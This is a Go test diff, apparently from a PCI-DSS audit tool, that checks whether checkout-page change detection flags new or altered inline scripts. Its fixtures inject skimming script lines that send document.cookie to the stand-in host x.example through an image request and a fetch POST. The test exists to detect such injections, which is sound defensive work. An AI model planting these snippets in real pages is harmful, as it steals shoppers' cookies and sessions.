@@ -2,6 +2,8 @@ package main
 
 import (
 	"context"
+	"crypto/sha256"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"net/http"
@@ -31,6 +33,10 @@ type shopPage struct {
 	order   []string
 	headers map[string]string
 	served  int
+	// cart is the page's own inline script; inlines are more of them,
+	// where {token} and {n} become per-request values.
+	cart    string
+	inlines []string
 }
 
 func newShopPage() *shopPage {
@@ -43,6 +49,7 @@ func newShopPage() *shopPage {
 func (p *shopPage) reset() {
 	p.mu.Lock()
 	p.scripts, p.order = map[string]string{}, nil
+	p.cart, p.inlines = "window.cart = {total: 42};", nil
 	p.headers = map[string]string{
 		// A fresh nonce per response, as strict CSPs have it: not a change.
 		"Content-Security-Policy": "script-src 'self' 'nonce-{nonce}'; frame-ancestors 'none'",
@@ -60,6 +67,18 @@ func (p *shopPage) addScript(path, body string) {
 		p.order = append(p.order, path)
 	}
 	p.scripts[path] = body
+}
+
+func (p *shopPage) addInline(html string) {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	p.inlines = append(p.inlines, html)
+}
+
+func (p *shopPage) setCart(code string) {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	p.cart = code
 }
 
 func (p *shopPage) dropHeader(name string) {
@@ -87,6 +106,11 @@ func (p *shopPage) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	}
 	w.Header().Set("Content-Type", "text/html; charset=utf-8")
 	var tags strings.Builder
+	for _, s := range p.inlines {
+		// What a server renders per request: a token, an order number.
+		token := fmt.Sprintf("%x", sha256.Sum256([]byte(nonce)))[:32]
+		fmt.Fprintln(&tags, strings.NewReplacer("{nonce}", nonce, "{token}", token, "{n}", fmt.Sprint(1000+p.served)).Replace(s))
+	}
 	for _, s := range p.order {
 		fmt.Fprintf(&tags, "<script src=%q></script>\n", s)
 	}
@@ -96,8 +120,8 @@ func (p *shopPage) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 <label for="cc">Card number</label><input id="cc" name="cardnumber" autocomplete="cc-number">
 <input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc">
 <button>Pay</button></form>
-<script nonce="%s">window.cart = {total: 42};</script>
-%s</body></html>`, nonce, tags.String())
+<script nonce="%s">%s</script>
+%s</body></html>`, nonce, p.cart, tags.String())
 }
 
 // changeRun runs the 11.6.1 step against the page with the baseline file.
@@ -309,4 +333,124 @@ merchant "south" {
 	code, _, stderr := audit(t, "fleet", "run", path, "--offline", "--checklist", "pci-dss", "--baseline=page.json")
 	assert.Equal(t, outcome.ExitUsage, code)
 	assert.Contains(t, stderr, "give --baseline alone")
+}
+
+// TestBaselineInlinePerRequest: an inline script that carries per-request
+// data (a CSRF token, an order number) has a new hash on every response,
+// so 11.6.1 fails it on every run unless the allowlist names it stably —
+// by its id with dynamic = true, or by its code with declared variable
+// parts. Either way a new inline script, another inline script changed,
+// code outside the declared parts or a second script under the same id
+// still fails; the evidence is the diff of the code.
+func TestBaselineInlinePerRequest(t *testing.T) {
+	const state = `<script nonce="{nonce}" id="checkout-state" data-role="state">window.checkout = {csrf: "{token}", order: {n}};</script>`
+	const byID = `
+  script "inline#checkout-state" {
+    reason  = "per-request CSRF token and order number, rendered by the server (SEC-12)"
+    dynamic = true
+  }`
+	const byCode = `
+  script "inline" {
+    reason = "per-request CSRF token and order number (SEC-12)"
+    code   = "window.checkout = {csrf: \"{{csrf}}\", order: {{order}}};"
+    parts  = { csrf = "[0-9a-f]{32}", order = "[0-9]{1,10}" }
+  }`
+	const skim = `<script nonce="{nonce}">new Image().src = 'https://x.example/?' + document.cookie;</script>`
+	tests := []struct {
+		name, entries string
+		change        func(p *shopPage)
+		want          reports.Status
+		detail        []string // fragments of one evidence line
+	}{
+		// Unlisted, it is still paired with its former code by its id.
+		{"no entry", "", func(*shopPage) {}, reports.Fail, []string{"script_changed inline#checkout-state (line ", `{csrf: "[`, " → "}},
+		{"named by its id, dynamic", byID, func(*shopPage) {}, reports.Pass,
+			[]string{"authorised script_changed inline#checkout-state (line ", `{csrf: "[`, "order: [", " → ", "(allowlist: dynamic)"}},
+		{"its code with variable parts", byCode, func(*shopPage) {}, reports.Pass,
+			[]string{"authorised script_changed inline (line ", `{csrf: "[`, "(allowlist: its declared variable parts)"}},
+		{"a new inline script beside it", byID, func(p *shopPage) { p.addInline(skim) }, reports.Fail,
+			[]string{"script_added inline:sha256-"}},
+		{"the page's other inline script changed", byCode, func(p *shopPage) { p.setCart("window.cart = {total: 42}; fetch('https://x.example/c');") },
+			reports.Fail, []string{"script_added inline:sha256-"}},
+		{"code outside the variable parts", byCode, func(p *shopPage) {
+			p.mu.Lock()
+			p.inlines = []string{strings.Replace(state, "};", "}; fetch('https://x.example/c', {method: 'POST', body: document.cookie});", 1)}
+			p.mu.Unlock()
+		}, reports.Fail, []string{"script_changed inline#checkout-state (line ", "[ → ; fetch('https://x.example/c', {method: 'POST', body: document.cookie})]"}},
+		{"a second script under the id", byID, func(p *shopPage) {
+			p.addInline(strings.Replace(skim, "<script ", `<script id="checkout-state" `, 1))
+		}, reports.Fail, []string{"script_added inline:sha256-"}},
+	}
+	page := newShopPage()
+	page.addInline(state)
+	srv := httptest.NewServer(page)
+	defer srv.Close()
+	url := srv.URL + "/checkout"
+	cart := sha256.Sum256([]byte("window.cart = {total: 42};"))
+	cartHash := "sha256-" + base64.StdEncoding.EncodeToString(cart[:])
+	run := func(t *testing.T, entries, file string) map[string]reports.Step {
+		t.Helper()
+		dir := t.TempDir()
+		writeFiles(t, dir, map[string]string{"src/app.js": "export {};\n", "audit.hcl": fmt.Sprintf(`use "pci-dss" {
+  checkout_page = %q
+  source_dirs   = ["src"]
+  script "/assets/app.js" { reason = "checkout logic, reviewed in SEC-7" }
+  script %q { reason = "cart total, fixed" }
+%s
+}
+`, url, cartHash, entries)})
+		code, steps := runJSON(t, "run", dir, "--offline", "--engine", "browser", "--baseline", file,
+			"--only", "pci-dss.page_change_detection,pci-dss.saq_scope,pci-dss.script_inventory")
+		require.Contains(t, steps, "pci-dss.page_change_detection", "code %d", code)
+		require.Contains(t, steps["pci-dss.saq_scope"].Message, "SAQ D")
+		return steps
+	}
+	recorded := filepath.Join(t.TempDir(), "baseline.json")
+	first := run(t, byID, recorded)["pci-dss.page_change_detection"]
+	require.Equal(t, reports.Pass, first.Status, first.Message)
+	b, err := baseline.Load(recorded)
+	require.NoError(t, err)
+	var kept *baseline.Script
+	for i, s := range b.Pages[url].Scripts {
+		if s.Attrs["id"] == "checkout-state" {
+			kept = &b.Pages[url].Scripts[i]
+		}
+	}
+	require.NotNil(t, kept, "the record keeps the inline script's attributes: %+v", b.Pages[url].Scripts)
+	assert.Equal(t, "state", kept.Attrs["data-role"])
+	assert.Contains(t, kept.Text, `window.checkout = {csrf: "`)
+	raw, err := os.ReadFile(recorded)
+	require.NoError(t, err)
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			page.reset()
+			page.addInline(state)
+			file := filepath.Join(t.TempDir(), "baseline.json")
+			require.NoError(t, os.WriteFile(file, raw, 0o644))
+			tt.change(page)
+			steps := run(t, tt.entries, file)
+			st := steps["pci-dss.page_change_detection"]
+			assert.Equal(t, tt.want, st.Status, st.Message)
+			var details []string
+			found := false
+			for _, e := range st.Evidence {
+				details = append(details, e.Detail)
+				all := true
+				for _, f := range tt.detail {
+					all = all && strings.Contains(e.Detail, f)
+				}
+				found = found || all
+			}
+			assert.True(t, found, "want evidence with %q in %q", tt.detail, details)
+			inv := steps["pci-dss.script_inventory"]
+			if tt.want == reports.Pass {
+				// The same entry authorises the script for 6.4.3.
+				assert.Equal(t, reports.Pass, inv.Status, inv.Message)
+			} else {
+				assert.Contains(t, st.Message, "not covered by script_allowlist")
+				assert.Equal(t, reports.Fail, inv.Status, inv.Message)
+			}
+		})
+	}
 }
